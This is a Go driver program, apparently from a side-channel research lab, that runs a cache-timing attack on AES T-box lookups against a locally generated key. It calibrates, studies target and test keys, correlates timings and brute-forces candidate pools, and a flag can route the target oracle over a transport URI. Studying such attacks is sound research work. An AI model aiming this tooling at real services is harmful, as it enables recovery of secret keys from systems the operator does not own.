// tboxattack mounts the full known-plaintext timing attack end to end:
// calibrate a threshold, study the target key, study a batch of known test
// keys, correlate and aggregate against the target, and brute-force the
// surviving candidate pools.
package main

import (
	"flag"
	"fmt"
	"os"
	"strconv"

	"github.com/golang/glog"

	tbox "github.com/sidechannel-lab/tboxtiming"
)

var (
	targetKeyFile = flag.String("targetkey", "target.key", "path to the 16-byte target key file; generated if absent")
	rateFile      = flag.String("ratefile", "rate.txt", "path to read/write the calibration rate file")
	bfDatFile     = flag.String("bfdat", "bf.dat", "path to write the candidate-pool file consumed by tboxbrute")
	corrDumpFile  = flag.String("corrdump", "", "path to write the aggregated correlation dump (optional)")
	tallyDumpFile = flag.String("tallydump", "", "path to write the target key's tally dump (optional)")
	oracleURI     = flag.String("oracle", "", "oracle transport URI for the target key; empty means a local in-process oracle")
	keysFlag      = flag.Int("keys", 10, "number of known test keys to study and correlate")
	runsFlag      = flag.Int("runs", 1<<tbox.DefaultRuns, "accepted measurements per key study")
	poolSizeFlag  = flag.Int("poolsize", 4, "candidate pool size per position fed to the brute-force engine")
	scrubFlag     = flag.Int("scrub", 0, "cache-scrub buffer size in bytes; 0 disables scrubbing")
	pinCPUFlag    = flag.Int("pin", -1, "CPU to pin this process to; -1 disables pinning")
	niceFlag      = flag.Bool("nice", false, "request elevated scheduling priority")
)

func init() {
	flag.Parse()
}

// explicitThreshold parses the CLI's optional positional outlier threshold,
// the one argument this tool accepts outside of flags.
func explicitThreshold() (tbox.Tick, bool) {
	args := flag.Args()
	if len(args) == 0 {
		return 0, false
	}
	v, err := strconv.ParseFloat(args[0], 64)
	if err != nil {
		glog.Fatalf("positional threshold argument %q is not a number: %v", args[0], err)
	}
	return tbox.Tick(v), true
}

func buildConfig() *tbox.StudyConfig {
	var opts []tbox.Option
	if t, ok := explicitThreshold(); ok {
		opts = append(opts, tbox.WithExplicitThreshold(t))
	}
	opts = append(opts, tbox.WithTestKeyCount(*keysFlag))
	if *scrubFlag > 0 {
		opts = append(opts, tbox.WithCacheScrub(*scrubFlag))
	}
	if *niceFlag || *pinCPUFlag >= 0 {
		opts = append(opts, tbox.WithProcessTuning(*pinCPUFlag))
	}
	return tbox.NewStudyConfig(opts...)
}

func loadOrGenerateTargetKey(entropy tbox.EntropySource) (tbox.Block, error) {
	if _, err := os.Stat(*targetKeyFile); err == nil {
		return tbox.ReadTargetKeyFile(*targetKeyFile)
	}
	key, err := entropy.Block()
	if err != nil {
		return tbox.Block{}, fmt.Errorf("generate target key: %w", err)
	}
	if err := tbox.WriteTargetKeyFile(*targetKeyFile, key); err != nil {
		return tbox.Block{}, err
	}
	return key, nil
}

func main() {
	defer glog.Flush()

	cfg := buildConfig()
	entropy := tbox.CryptoRandEntropy{}
	timer := tbox.NewMonotonicTimer()

	if err := cfg.ApplyTuning(tbox.NewProcessTuner()); err != nil {
		glog.Warningf("process tuning: %v", err)
	}

	study := tbox.NewStudy(entropy, timer, cfg.Scrubber(), tbox.SystemWallClock{}, cfg)

	calibOracle := tbox.NewAESOracle()

	var err error
	var threshold tbox.Tick
	if rate, t, err := tbox.ReadRateFile(*rateFile); err == nil {
		glog.Infof("reusing calibration from %s: rate %.0f enc/s, threshold %d", *rateFile, rate, t)
		threshold = t
	} else {
		result, err := study.Calibrate(calibOracle)
		if err != nil {
			glog.Fatalf("calibration: %v", err)
		}
		threshold = result.Threshold
		if err := tbox.WriteRateFile(*rateFile, result.RatePerSecond, threshold); err != nil {
			glog.Warningf("write rate file: %v", err)
		}
	}

	targetKey, err := loadOrGenerateTargetKey(entropy)
	if err != nil {
		glog.Fatalf("target key: %v", err)
	}

	targetOracle := tbox.NewAESOracle()
	targetTransport, err := tbox.NewTransportFromURI(*oracleURI, targetOracle)
	if err != nil {
		glog.Fatalf("target oracle transport: %v", err)
	}
	if _, local := targetTransport.(*tbox.LocalTransport); local {
		if err := targetOracle.Expand(targetKey); err != nil {
			glog.Fatalf("expand target key: %v", err)
		}
	}

	targetState, targetMeans, err := study.StudyKey(targetOracle, targetTransport, targetKey, *runsFlag, threshold)
	if err != nil {
		glog.Fatalf("study target key: %v", err)
	}
	if err := targetState.Conserves(); err != nil {
		glog.Fatalf("target measurement sanity check failed: %v", err)
	}

	if *tallyDumpFile != "" {
		f, err := os.Create(*tallyDumpFile)
		if err != nil {
			glog.Fatalf("create tally dump: %v", err)
		}
		if err := tbox.WriteTallyDump(f, targetState, targetMeans); err != nil {
			glog.Fatalf("write tally dump: %v", err)
		}
		f.Close()
	}

	agg := tbox.NewAggregator()
	for i := 0; i < *keysFlag; i++ {
		testOracle := tbox.NewAESOracle()
		testKey, err := entropy.Block()
		if err != nil {
			glog.Fatalf("generate test key %d: %v", i, err)
		}

		_, testMeans, err := study.StudyKey(testOracle, nil, testKey, *runsFlag, threshold)
		if err != nil {
			glog.Fatalf("study test key %d: %v", i, err)
		}

		corr, err := tbox.Correlate(targetMeans, testMeans, testKey)
		if err != nil {
			glog.Fatalf("correlate test key %d: %v", i, err)
		}
		agg.Add(corr)
		glog.V(1).Infof("test key %d/%d studied and correlated", i+1, *keysFlag)
	}

	total, n := agg.Total()
	glog.Infof("aggregated %d test keys", n)

	if *corrDumpFile != "" {
		f, err := os.Create(*corrDumpFile)
		if err != nil {
			glog.Fatalf("create correlation dump: %v", err)
		}
		if err := tbox.WriteCorrelationDump(f, total); err != nil {
			glog.Fatalf("write correlation dump: %v", err)
		}
		f.Close()
	}

	pools := tbox.TopNPools(total, *poolSizeFlag)
	if err := tbox.WriteBFDat(*bfDatFile, pools); err != nil {
		glog.Fatalf("write bf.dat: %v", err)
	}

	referenceOracle := tbox.NewAESOracle()
	reference, err := tbox.ReferenceCiphertext(referenceOracle, targetKey)
	if err != nil {
		glog.Fatalf("reference ciphertext: %v", err)
	}

	bruteOracle := tbox.NewAESOracle()
	result, err := tbox.BruteForce(bruteOracle, pools, reference)
	if err != nil {
		glog.Fatalf("brute force: %v", err)
	}
	glog.Infof("recovered key %s in %d attempts of %d candidates", result.Key, result.Attempts, result.SpaceSize)
	fmt.Printf("%s\n", result.Key)
}
